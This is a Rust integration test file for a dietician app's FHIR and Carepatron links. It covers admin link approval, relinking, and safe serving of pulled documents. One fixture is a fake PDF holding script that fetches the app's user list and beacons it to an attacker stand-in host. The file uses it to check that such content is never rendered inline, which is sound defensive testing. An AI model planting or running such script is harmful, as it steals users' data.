//! Links to the PHP and to Carepatron that a client cannot abuse: a link changed offline goes
//! through the path a REST edit takes (the PHP match forgotten, a pull queued); the Carepatron
//! client id is the integration's alone; a document a PHP sends as something it is not is
//! kept as a download and never served to be rendered inline.

use crate::both_backends;
use crate::helpers::{TestApp, TestUser};
use connectors::fhir::PhpPatient;
use domain::PhpMatch;
use domain::UserType::{Admin, Dietician};
use sandbox::fhir::FhirSandbox;
use sandbox::seed::MRN_SYSTEM;
use serde_json::{json, Value};
use std::time::{Duration, Instant};
use uuid::Uuid;

/// A provider record (open FHIR server at `base`), made by a fresh admin.
async fn provider(app: &TestApp, base: &str) -> Uuid {
    let admin = app.user(Admin).await;
    app.post(
        "/api/v1/providers",
        &admin,
        json!({"name": "Springfield Clinic", "fhir_base_url": base, "auth": {"mode": "none"}}),
    )
    .await
    .expect(201)
    .id()
}

#[allow(clippy::needless_pass_by_value)] // reads better at the call sites
fn mutation(row: Uuid, op: &str, base: i64, fields: Value) -> Value {
    json!({"mutation_id": Uuid::now_v7(), "device_seq": 1, "table": "patients", "row_id": row,
           "op": op, "base_version": base, "fields": fields})
}

async fn push(app: &TestApp, who: &TestUser, mutations: &[Value]) -> Vec<Value> {
    app.post(
        "/api/v1/sync/push",
        who,
        json!({"device_id": "laptop-1", "mutations": mutations}),
    )
    .await
    .expect(200)
    .body["results"]
        .as_array()
        .expect("results")
        .clone()
}

/// A record found at the PHP, as the lookup reports it.
fn record(php_id: &str) -> PhpPatient {
    PhpPatient {
        id: php_id.into(),
        name: "Ana Lima".into(),
        family: Some("Lima".into()),
        birth_date: Some("1980-02-03".into()),
    }
}

/// As if the patient had been pulled: found at the PHP as `php_id`, up to a watermark.
async fn matched(app: &TestApp, patient: Uuid, php_id: &str) {
    let found = app
        .db
        .patient(domain::access::PatientScope::All, patient)
        .await
        .expect("read")
        .expect("the patient");
    assert!(app
        .db
        .set_php_match(&found, PhpMatch::Found, Some(&record(php_id)))
        .await
        .expect("match"));
    app.db
        .set_watermark(patient, "2026-11-01T00:00:00Z")
        .await
        .expect("watermark");
    // The pull queued when the patient was linked is over.
    sqlx::query("UPDATE jobs SET status = 'done' WHERE patient_id = $1")
        .bind(patient.to_string())
        .execute(app.db.pool())
        .await
        .expect("jobs done");
}

/// The PHP patient id the pull would use, and its watermark.
async fn pull_state(app: &TestApp, patient: Uuid) -> (Option<String>, Option<String>) {
    let state = app.db.pull_state(patient).await.expect("pull state");
    (state.php_patient_id, state.watermark)
}

async fn queued_pulls(app: &TestApp, patient: Uuid) -> i64 {
    sqlx::query_scalar(
        "SELECT count(*) FROM jobs WHERE patient_id = $1 AND kind = 'pull' AND status = 'queued'",
    )
    .bind(patient.to_string())
    .fetch_one(app.db.pool())
    .await
    .expect("count")
}

/// Polls until `check` holds (20 s at most).
async fn eventually<F, Fut, T>(what: &str, mut check: F) -> T
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Option<T>>,
{
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        if let Some(v) = check().await {
            return v;
        }
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

both_backends! {
    async fn a_link_changed_offline_resets_the_php_match_as_a_rest_edit_does(app) {
        let provider = provider(&app, "http://127.0.0.1:9/fhir").await;
        let d = app.user(Dietician).await;
        let linked = json!({"provider_id": provider, "provider_patient_identifier": "urn:mrn|100001",
                            "birth_date": "1980-02-03"});
        let by_rest = app.patient(&d, linked.clone()).await;
        let by_push = app.patient(&d, linked).await;
        for p in [by_rest, by_push] {
            matched(&app, p, "pat1").await;
        }

        // An edit that leaves the link alone keeps what the pull knew, on either path.
        app.put(&format!("/api/v1/patients/{by_rest}"), &d, json!({"name": "Ana Lima-Souza"})).await.expect(200);
        let r = push(&app, &d, &[mutation(by_push, "update", 1, json!({"name": "Ana Lima-Souza"}))]).await;
        assert_eq!(r[0]["status"], "applied", "{r:?}");
        for p in [by_rest, by_push] {
            assert_eq!(pull_state(&app, p).await.0.as_deref(), Some("pat1"));
            assert_eq!(queued_pulls(&app, p).await, 0);
        }

        // Pointing the record at someone else at the PHP: REST forgets the match and its
        // watermark and queues a pull that finds the patient afresh...
        let searched_before = app.db.patient(domain::access::PatientScope::All, by_rest).await.expect("read").expect("patient");
        app.put(&format!("/api/v1/patients/{by_rest}"), &d,
                json!({"provider_patient_identifier": "urn:mrn|100002"})).await.expect(200);
        assert_eq!(pull_state(&app, by_rest).await, (None, None));
        assert_eq!(queued_pulls(&app, by_rest).await, 1);
        // (A pull that began before the relink and finds the old person afterwards keeps
        // nothing of it.)
        assert!(!app.db.set_php_match(&searched_before, PhpMatch::Found, Some(&record("pat1"))).await.expect("match"));
        assert_eq!(pull_state(&app, by_rest).await, (None, None));
        // ...and so does the same edit made offline: the old PHP patient is never pulled again.
        let r = push(&app, &d, &[mutation(by_push, "update", 2,
                                          json!({"provider_patient_identifier": "urn:mrn|100002"}))]).await;
        assert_eq!(r[0]["status"], "applied", "{r:?}");
        assert_eq!(pull_state(&app, by_push).await, (None, None), "push keeps the old PHP patient id");
        assert_eq!(queued_pulls(&app, by_push).await, 1, "push queues no pull");
        // Either way the changed link waits for an administrator again.
        for p in [by_rest, by_push] {
            let row = app.db.patient(domain::access::PatientScope::All, p).await.expect("read").expect("patient");
            assert_eq!(row.link_approval, Some(domain::LinkApproval::Pending), "{p}");
        }

        // A birth date or provider changed offline is a relink too (what finds the patient).
        matched(&app, by_push, "pat2").await;
        let r = push(&app, &d, &[mutation(by_push, "update", 3, json!({"birth_date": "1980-03-02"}))]).await;
        assert_eq!(r[0]["status"], "applied", "{r:?}");
        assert_eq!(pull_state(&app, by_push).await, (None, None));

        // Restoring a deleted patient with another link (a device that kept its edit).
        matched(&app, by_push, "pat2").await;
        app.delete(&format!("/api/v1/patients/{by_push}"), &d).await.expect(204);
        let r = push(&app, &d, &[mutation(by_push, "restore", 4, json!({
            "name": "Ana Lima-Souza", "provider_patient_identifier": "urn:mrn|100003"}))]).await;
        assert_eq!(r[0]["status"], "applied", "{r:?}");
        assert_eq!(pull_state(&app, by_push).await, (None, None));
        assert_eq!(queued_pulls(&app, by_push).await, 1);

        // A patient created offline already linked is pulled as one created over REST is.
        let offline = Uuid::now_v7();
        let r = push(&app, &d, &[mutation(offline, "insert", 0, json!({
            "name": "Bruno Okafor", "email": "bruno@example.org", "provider_id": provider,
            "provider_patient_identifier": "urn:mrn|100004"}))]).await;
        assert_eq!(r[0]["status"], "applied", "{r:?}");
        assert_eq!(queued_pulls(&app, offline).await, 1);
    }

    async fn a_pull_stores_nothing_once_its_link_is_refused_or_pointed_elsewhere(app) {
        let provider = provider(&app, "http://127.0.0.1:9/fhir").await;
        let admin = app.user(Admin).await;
        let d = app.user(Dietician).await;
        let patient = app.patient(&d, json!({"provider_id": provider, "birth_date": "1980-02-03",
                                            "provider_patient_identifier": "urn:mrn|1"})).await;
        app.approve_link_found_as(&admin, patient, "pat1").await;
        let item = |n: u32| connectors::fhir::mapping::Incoming::Document(connectors::fhir::mapping::IncomingDocument {
            external_id: format!("DocumentReference/{n}"),
            version: "1".into(),
            doc_type: domain::DocumentType::LabReport,
            title: format!("Panel {n}"),
            date: "2026-11-01".into(),
            author: None,
            mime_type: "text/plain".into(),
            content: format!("result {n}").into_bytes(),
            retyped: None,
            results: Vec::new(),
        });
        use server::db::php::Applied;
        let apply = |php: &'static str, n: u32| {
            let db = app.db.clone();
            async move { db.apply_pulled(patient, php, "Springfield Clinic", &item(n)).await.expect("apply") }
        };
        // A pull stores under the record the approval named, and only that one.
        assert_eq!(apply("pat1", 1).await, Applied::Stored);
        assert_eq!(apply("pat2", 2).await, Applied::Unlinked);
        // Refused while a pull is under way: what it finds next is not stored.
        let seen = review(&app, &admin, "approved", patient, |_| true).await;
        app.post(&format!("/api/v1/links/{patient}"), &admin,
                 json!({"decision": "refused", "fingerprint": seen["fingerprint"]})).await.expect(200);
        assert_eq!(apply("pat1", 3).await, Applied::Unlinked);
        assert_eq!(document_count(&app, &d, patient).await, 1);
    }

    async fn the_carepatron_client_id_is_set_by_the_integration_only(app) {
        let d = app.user(Dietician).await;
        let other = app.user(Dietician).await;
        let theirs = app.patient(&other, json!({})).await;
        // Say their patient is a Carepatron client already (the integration sets this).
        sqlx::query("UPDATE patients SET carepatron_patient_id = 'cp-client-of-a-colleague' WHERE id = $1")
            .bind(theirs.to_string())
            .execute(app.db.pool())
            .await
            .expect("set");

        // Creating a patient pointed at a colleague's Carepatron client: refused, naming it.
        for value in [json!("cp-client-of-a-colleague"), json!(null)] {
            let res = app.post("/api/v1/patients", &d, json!({
                "name": "Ana Lima", "email": format!("ana-{}@example.org", Uuid::now_v7().simple()),
                "carepatron_patient_id": value})).await.problem(422, "validation_failed");
            assert_eq!(res.body["field"], "carepatron_patient_id", "{}", res.body);
            assert!(res.body["detail"].as_str().is_some_and(|t| t.contains("set by the Carepatron integration only")), "{}", res.body);
        }
        assert!(app.get("/api/v1/patients", &d).await.expect(200).ids().is_empty());

        // Repointing an existing one: refused, nothing written.
        let mine = app.patient(&d, json!({})).await;
        let res = app.put(&format!("/api/v1/patients/{mine}"), &d,
                          json!({"name": "Renamed", "carepatron_patient_id": "cp-client-of-a-colleague"}))
            .await
            .problem(422, "validation_failed");
        assert_eq!(res.body["field"], "carepatron_patient_id");
        let row = app.get(&format!("/api/v1/patients/{mine}"), &d).await.expect(200);
        assert_eq!(row.body["carepatron_patient_id"], Value::Null);
        assert_eq!(row.body["name"], "Ana Lima");
        assert_eq!(row.body["version"], 1);

        // Offline, the same: each mutation refused by name, the others applied.
        let inserted = Uuid::now_v7();
        let r = push(&app, &d, &[
            mutation(mine, "update", 1, json!({"carepatron_patient_id": "cp-client-of-a-colleague"})),
            mutation(inserted, "insert", 0, json!({"name": "Offline Olga", "email": "olga@example.org",
                                                  "carepatron_patient_id": "cp-client-of-a-colleague"})),
            mutation(mine, "update", 1, json!({"dietary_preferences": "vegan"})),
        ]).await;
        let statuses: Vec<&str> = r.iter().map(|m| m["status"].as_str().expect("status")).collect();
        assert_eq!(statuses, ["rejected", "rejected", "applied"], "{r:?}");
        for refused in &r[..2] {
            assert_eq!(refused["code"], "validation_failed");
            assert_eq!(refused["reason"],
                       "carepatron patient id: is set by the Carepatron integration only; leave it out");
        }
        let row = app.get(&format!("/api/v1/patients/{mine}"), &d).await.expect(200);
        assert_eq!(row.body["carepatron_patient_id"], Value::Null);
        app.get(&format!("/api/v1/patients/{inserted}"), &d).await.expect(404);
        // The OpenAPI document does not offer the field to clients.
        let spec = app.call(reqwest::Method::GET, "/api/v1/openapi.json", None, None).await.expect(200).body;
        for schema in ["NewPatient", "PatientUpdate"] {
            let properties = &spec["components"]["schemas"][schema]["properties"];
            assert!(properties.get("name").is_some(), "{schema}: {properties}");
            assert!(properties.get("carepatron_patient_id").is_none(), "{schema}: {properties}");
        }
    }
}

/// The response to `GET /documents/{id}/content`.
async fn content(app: &TestApp, user: &TestUser, id: &str) -> reqwest::Response {
    app.client
        .get(app.url(&format!("/api/v1/documents/{id}/content")))
        .bearer_auth(&user.token)
        .send()
        .await
        .expect("content")
}

fn header<'a>(res: &'a reqwest::Response, name: &str) -> Option<&'a str> {
    res.headers().get(name).and_then(|v| v.to_str().ok())
}

both_backends! {
    @with (server::testing::with_jobs)

    async fn a_php_document_is_shown_inline_only_when_its_type_is_safe_and_true(app) {
        let php = FhirSandbox::default();
        let seeded = sandbox::seed::php(&php, 1, 0, 5);
        let served = php.serve("127.0.0.1:0").await.expect("serve");
        let page = b"<html><body><script>fetch('/api/v1/users').then(r => r.text()).then(navigator.sendBeacon.bind(navigator, 'https://evil.example'))</script></body></html>";
        let pdf = sandbox::seed::minimal_pdf("Lab results");
        let png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01";
        let patient_at_php = &seeded[0].id;
        sandbox::seed::attachment_document(&php, patient_at_php, "Sent as a PDF", "application/pdf", page);
        sandbox::seed::attachment_document(&php, patient_at_php, "A web page", "text/html", b"<html><body><p>Diet plan</p></body></html>");
        sandbox::seed::attachment_document(&php, patient_at_php, "Real PDF", "application/pdf", &pdf);
        sandbox::seed::attachment_document(&php, patient_at_php, "Real PNG", "image/png", png);

        let provider = provider(&app, &served.base).await;
        let d = app.user(Dietician).await;
        let p = &seeded[0];
        let patient = app.patient(&d, json!({"name": p.name, "email": p.email, "birth_date": p.birth_date,
            "provider_id": provider,
            "provider_patient_identifier": format!("{MRN_SYSTEM}|{}", p.mrn)})).await;
        app.approve_link(&app.user(Admin).await, patient).await;
        let docs: Vec<Value> = eventually("the pull", || async {
            let docs = app.get(&format!("/api/v1/patients/{patient}/documents"), &d).await.expect(200)
                .body["items"].as_array().expect("items").clone();
            (docs.len() == 4).then_some(docs)
        }).await;
        let doc = |title: &str| docs.iter().find(|x| x["title"] == title).unwrap_or_else(|| panic!("{title}: {docs:?}")).clone();

        // HTML the PHP called a PDF is kept, as a download, and the log says why.
        let lie = doc("Sent as a PDF");
        assert_eq!(lie["mime_type"], "application/octet-stream");
        let logs = app.get(&format!("/api/v1/patients/{patient}/logs?limit=200"), &d).await.expect(200).body;
        let said = logs["items"].as_array().expect("items").iter()
            .find(|e| e["document_id"] == lie["id"]).expect("its log entry")["details"].clone();
        assert_eq!(said, "Received from Springfield Clinic (progress note). Kept as a file to download (application/octet-stream): its content is not the application/pdf it was sent as.");
        // HTML sent as HTML keeps its type.
        assert_eq!(doc("A web page")["mime_type"], "text/html");
        assert_eq!(doc("Real PDF")["mime_type"], "application/pdf");
        assert_eq!(doc("Real PNG")["mime_type"], "image/png");

        // Served: anything but the inline-safe types is an attachment, never sniffed.
        for (title, content_type, shown) in [
            ("Sent as a PDF", "application/octet-stream", false),
            ("A web page", "text/html; charset=utf-8", false),
            ("Real PDF", "application/pdf", true),
            ("Real PNG", "image/png", true),
        ] {
            let res = content(&app, &d, doc(title)["id"].as_str().expect("id")).await;
            assert_eq!(res.status(), 200, "{title}");
            assert_eq!(header(&res, "content-type"), Some(content_type), "{title}");
            assert_eq!(header(&res, "x-content-type-options"), Some("nosniff"), "{title}");
            assert_eq!(header(&res, "content-disposition"), (!shown).then_some("attachment"), "{title}");
        }
        let res = content(&app, &d, lie["id"].as_str().expect("id")).await;
        assert_eq!(res.bytes().await.expect("bytes").as_ref(), page, "the bytes as they came");

        // The same rule for what people upload: CSV is kept as text, served as a download.
        let csv = app.post(&format!("/api/v1/patients/{patient}/documents"), &d,
            json!({"type": "other", "date": "2026-11-03", "title": "Food diary", "content": "day,kcal\n1,1800\n",
                   "mime_type": "text/csv"})).await.expect(201);
        let res = content(&app, &d, csv.body["id"].as_str().expect("id")).await;
        assert_eq!(header(&res, "content-disposition"), Some("attachment"));
        let res = content(&app, &d, &app.text_document(&d, patient, "Note").await.to_string()).await;
        assert_eq!(header(&res, "content-disposition"), None, "plain text is shown");
    }
}

/// A stand-in PHP with `patients` patients of two documents each, its provider record, an
/// admin and a dietician.
struct Clinic {
    seeded: Vec<sandbox::seed::SeededPatient>,
    provider: Uuid,
    admin: TestUser,
    d: TestUser,
    _served: sandbox::Served,
}

async fn clinic(app: &TestApp, patients: usize, seed: u64) -> Clinic {
    let php = FhirSandbox::default();
    let seeded = sandbox::seed::php(&php, patients, 2, seed);
    let served = php.serve("127.0.0.1:0").await.expect("serve");
    Clinic {
        seeded,
        provider: provider(app, &served.base).await,
        admin: app.user(Admin).await,
        d: app.user(Dietician).await,
        _served: served,
    }
}

/// The review of `patient`'s link in the admin's queue (`state`), once `ready` holds for it.
async fn review(
    app: &TestApp,
    admin: &TestUser,
    state: &str,
    patient: Uuid,
    ready: fn(&Value) -> bool,
) -> Value {
    eventually("the link in the review queue", || async {
        let queue = app
            .get(&format!("/api/v1/links?state={state}"), admin)
            .await
            .expect(200)
            .body;
        queue
            .as_array()?
            .iter()
            .find(|r| r["patient_id"] == json!(patient) && ready(r))
            .cloned()
    })
    .await
}

async fn document_count(app: &TestApp, who: &TestUser, patient: Uuid) -> usize {
    app.get(&format!("/api/v1/patients/{patient}/documents"), who)
        .await
        .expect(200)
        .body["items"]
        .as_array()
        .expect("items")
        .len()
}

async fn log_details(app: &TestApp, who: &TestUser, patient: Uuid) -> Vec<String> {
    app.get(&format!("/api/v1/patients/{patient}/logs?limit=200"), who)
        .await
        .expect(200)
        .body["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter_map(|e| e["details"].as_str().map(str::to_owned))
        .collect()
}

both_backends! {
    @with (server::testing::with_jobs)

    async fn a_link_is_pulled_only_once_an_admin_approves_it(app) {
        let Clinic { seeded, provider, admin, d, _served } = clinic(&app, 2, 7).await;
        let p = &seeded[0];
        let patient = app.patient(&d, json!({"name": p.name, "email": p.email, "birth_date": p.birth_date,
            "provider_id": provider, "provider_patient_identifier": format!("{MRN_SYSTEM}|{}", p.mrn)})).await;

        // Pending, as the dietician sees it; the PHP is asked only what the admin needs to
        // decide: the record under the link, shown beside ours.
        let row = app.get(&format!("/api/v1/patients/{patient}"), &d).await.expect(200).body;
        assert_eq!(row["link_approval"], "pending");
        let seen = review(&app, &admin, "pending", patient, |r| !r["php_match"].is_null()).await;
        assert_eq!(seen["php_match"], "found", "{seen}");
        assert_eq!((seen["php_name"].as_str(), seen["php_birth_date"].as_str()), (Some(&p.name[..]), Some(&p.birth_date[..])));
        assert_eq!((seen["patient_name"].as_str(), seen["birth_date"].as_str()), (Some(&p.name[..]), Some(&p.birth_date[..])));
        assert_eq!(seen["dietician_id"], json!(d.id));
        assert_eq!(seen["provider_name"], "Springfield Clinic");
        let said = eventually("the pull to say it waits", || async {
            let logs = log_details(&app, &d, patient).await;
            logs.iter().any(|l| l.contains("awaits an administrator's approval")).then_some(logs)
        }).await;
        assert!(!said.iter().any(|l| l.contains(&p.name) || l.contains("found")), "{said:?}");
        assert_eq!(document_count(&app, &d, patient).await, 0, "nothing pulled before approval");
        app.post(&format!("/api/v1/patients/{patient}/request-documents"), &d, json!({"types": ["lab report"]}))
            .await.problem(409, "link_not_approved");

        // Only admins review and decide, and only on the link they saw.
        app.get("/api/v1/links", &d).await.expect(403);
        app.post(&format!("/api/v1/links/{patient}"), &d,
                 json!({"decision": "approved", "fingerprint": seen["fingerprint"]})).await.expect(403);
        app.post(&format!("/api/v1/links/{patient}"), &admin,
                 json!({"decision": "approved", "fingerprint": "0a0b0c"})).await.problem(409, "link_changed");
        app.post(&format!("/api/v1/links/{patient}"), &admin,
                 json!({"decision": "pending", "fingerprint": seen["fingerprint"]})).await.problem(422, "validation_failed");

        let approved = app.approve_link(&admin, patient).await;
        assert_eq!(approved["link_approval"], "approved");
        eventually("the pull after approval", || async {
            (document_count(&app, &d, patient).await == 2).then_some(())
        }).await;
        assert!(log_details(&app, &d, patient).await.iter()
            .any(|l| l == "An administrator approved the link to Springfield Clinic; its documents are pulled from now on."));
        let queue = app.get("/api/v1/links", &admin).await.expect(200).body;
        assert!(!queue.to_string().contains(&patient.to_string()), "approved links leave the queue: {queue}");

        // Pointing the link at someone else asks again; refused, nothing is pulled under it.
        let other = format!("{MRN_SYSTEM}|{}", seeded[1].mrn);
        let row = app.put(&format!("/api/v1/patients/{patient}"), &d,
                          json!({"provider_patient_identifier": other})).await.expect(200).body;
        assert_eq!(row["link_approval"], "pending");
        let seen = review(&app, &admin, "pending", patient, |r| !r["php_match"].is_null()).await;
        assert_eq!(seen["php_match"], "differs", "another person's record: {seen}");
        assert_eq!(seen["php_name"].as_str(), Some(&seeded[1].name[..]));
        let refused = app.post(&format!("/api/v1/links/{patient}"), &admin,
            json!({"decision": "refused", "fingerprint": seen["fingerprint"]})).await.expect(200).body;
        assert_eq!(refused["link_approval"], "refused");
        app.post(&format!("/api/v1/patients/{patient}/sync"), &d, json!({})).await.expect(202);
        eventually("the pull after the refusal", || async {
            log_details(&app, &d, patient).await.iter()
                .any(|l| l.contains("refused the patient's link")).then_some(())
        }).await;
        assert_eq!(document_count(&app, &d, patient).await, 2, "nothing of the other person");
        review(&app, &admin, "refused", patient, |_| true).await;
    }

    async fn an_approval_without_a_record_is_sent_back_for_review_not_searched(app) {
        let Clinic { seeded, provider, admin, d, _served } = clinic(&app, 1, 10).await;
        let p = &seeded[0];
        // A link approved with no record named (as links made before approvals, or while the
        // practice did not require them, may be).
        let patient = app.patient(&d, json!({"name": p.name, "email": p.email, "birth_date": p.birth_date,
            "provider_id": provider})).await;
        review(&app, &admin, "pending", patient, |r| !r["php_match"].is_null()).await;
        sqlx::query("UPDATE patients SET link_approval = 'approved' WHERE id = $1")
            .bind(patient.to_string()).execute(app.db.pool()).await.expect("approve");
        sqlx::query("DELETE FROM php_pull_state WHERE patient_id = $1")
            .bind(patient.to_string()).execute(app.db.pool()).await.expect("forget");
        app.post(&format!("/api/v1/patients/{patient}/sync"), &d, json!({})).await.expect(202);
        // The pull does not search under whatever the patient is called by now: the link goes
        // back to the admin, with what the lookup found.
        let seen = review(&app, &admin, "pending", patient, |r| !r["php_match"].is_null()).await;
        assert_eq!(seen["php_match"], "found");
        assert_eq!(document_count(&app, &d, patient).await, 0);
        app.approve_link(&admin, patient).await;
        eventually("the pull after approval", || async {
            (document_count(&app, &d, patient).await == 2).then_some(())
        }).await;
    }

    async fn what_a_dietician_reads_never_says_whether_someone_is_at_the_php(app) {
        let Clinic { seeded, provider, admin, d, _served } = clinic(&app, 1, 8).await;
        let (guessed, nobody) = guessing(&app, &d, provider, &seeded[0]).await;
        let p = &seeded[0];
        // The admin sees why (the PHP's record disagrees; no record) and cannot approve
        // either: an approval is of a record that agrees with the patient ...
        let seen = review(&app, &admin, "pending", guessed, |r| !r["php_match"].is_null()).await;
        assert_eq!((seen["php_match"].as_str(), seen["php_birth_date"].as_str()), (Some("differs"), Some(&p.birth_date[..])));
        let none = review(&app, &admin, "pending", nobody, |r| !r["php_match"].is_null()).await;
        assert_eq!((none["php_match"].as_str(), none["php_name"].as_str()), (Some("not found"), None));
        for r in [&seen, &none] {
            app.post(&format!("/api/v1/links/{}", r["patient_id"].as_str().expect("id")), &admin,
                     json!({"decision": "approved", "fingerprint": r["fingerprint"]}))
                .await.problem(409, "link_unconfirmed");
        }
        // ... while the dietician reads the same for both.
        for patient in [guessed, nobody] {
            let row = app.get(&format!("/api/v1/patients/{patient}"), &d).await.expect(200).body;
            assert_eq!((row["link_approval"].as_str(), &row["sync_error"]), (Some("pending"), &Value::Null));
            assert_eq!(document_count(&app, &d, patient).await, 0);
        }
        assert_eq!(log_details(&app, &d, guessed).await, log_details(&app, &d, nobody).await);
    }
}

/// Two links of `d`'s made by guessing: `person`'s real ID with another birth date, and an ID
/// nobody has.
async fn guessing(
    app: &TestApp,
    d: &TestUser,
    provider: Uuid,
    person: &sandbox::seed::SeededPatient,
) -> (Uuid, Uuid) {
    let guessed = app.patient(d, json!({"name": person.name, "birth_date": "1999-09-09",
        "provider_id": provider, "provider_patient_identifier": format!("{MRN_SYSTEM}|{}", person.mrn)})).await;
    let nobody = app
        .patient(
            d,
            json!({"name": person.name, "birth_date": "1999-09-09",
        "provider_id": provider, "provider_patient_identifier": format!("{MRN_SYSTEM}|MRN999999")}),
        )
        .await;
    (guessed, nobody)
}

both_backends! {
    @with (|c: &mut server::config::Config| {
        server::testing::with_jobs(c);
        c.links = domain::LinkPolicy::Trusted;
    })

    async fn without_approval_an_identifier_alone_pulls_nothing_and_reads_alike(app) {
        let Clinic { seeded, provider, d, _served, .. } = clinic(&app, 1, 9).await;
        let (guessed, nobody) = guessing(&app, &d, provider, &seeded[0]).await;
        let mut errors = Vec::new();
        for patient in [guessed, nobody] {
            let error = eventually("the failed pull", || async {
                let row = app.get(&format!("/api/v1/patients/{patient}"), &d).await.expect(200).body;
                row["sync_error"].as_str().map(str::to_owned)
            }).await;
            assert_eq!(document_count(&app, &d, patient).await, 0);
            errors.push(error);
        }
        assert_eq!(errors[0], errors[1], "the two cases read alike");
        assert!(!errors[0].contains(&seeded[0].birth_date) && !errors[0].contains("found"), "{}", errors[0]);
        assert_eq!(log_details(&app, &d, guessed).await, log_details(&app, &d, nobody).await, "the logs read alike too");
    }
}

both_backends! {
    @with (|c: &mut server::config::Config| c.links = domain::LinkPolicy::Trusted)

    async fn a_practice_that_trusts_its_dieticians_approves_links_as_made(app) {
        let provider = provider(&app, "http://127.0.0.1:9/fhir").await;
        let d = app.user(Dietician).await;
        let patient = app.patient(&d, json!({"provider_id": provider, "birth_date": "1980-02-03"})).await;
        let row = app.get(&format!("/api/v1/patients/{patient}"), &d).await.expect(200).body;
        assert_eq!(row["link_approval"], "approved");
        let row = app.put(&format!("/api/v1/patients/{patient}"), &d, json!({"provider_id": null})).await.expect(200).body;
        assert_eq!(row["link_approval"], Value::Null, "no provider, no link");
    }
}

both_backends! {
    async fn test_connection_reaches_the_php_step_by_step_and_says_where_it_stops(app) {
        let php = FhirSandbox::default();
        sandbox::seed::php(&php, 2, 0, 3);
        let served = php.serve("127.0.0.1:0").await.expect("serve");
        let admin = app.user(Admin).await;
        let reachable = provider(&app, &served.base).await;
        let steps = app.post(&format!("/api/v1/providers/{reachable}/test"), &admin, json!({})).await.expect(200).body;
        let said: Vec<(&str, bool)> = steps.as_array().expect("steps").iter()
            .map(|s| (s["step"].as_str().expect("step"), s["ok"].as_bool().expect("ok")))
            .collect();
        assert_eq!(said, [("Discovery", true), ("Token", true), ("Search", true)], "{steps}");
        assert_eq!(steps[1]["detail"], "None needed: the server is open.");

        // Nothing listens there: the first step fails, in words, and nothing after it runs.
        let closed = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
        let gone = format!("http://{}/fhir", closed.local_addr().expect("addr"));
        drop(closed);
        let unreachable = app.post("/api/v1/providers", &admin,
            json!({"name": "Shelbyville Health", "fhir_base_url": gone, "auth": {"mode": "none"}}))
            .await.expect(201).id();
        let steps = app.post(&format!("/api/v1/providers/{unreachable}/test"), &admin, json!({})).await.expect(200).body;
        assert_eq!(steps.as_array().expect("steps").len(), 1, "{steps}");
        assert_eq!((&steps[0]["step"], &steps[0]["ok"]), (&json!("Discovery"), &json!(false)));
        assert!(steps[0]["detail"].as_str().expect("detail").contains("Shelbyville Health"), "{steps}");

        // Only admins try a provider's settings.
        let d = app.user(Dietician).await;
        app.post(&format!("/api/v1/providers/{reachable}/test"), &d, json!({})).await.problem(403, "forbidden");
        app.post(&format!("/api/v1/providers/{}/test", Uuid::now_v7()), &admin, json!({})).await.problem(404, "not_found");
    }
}
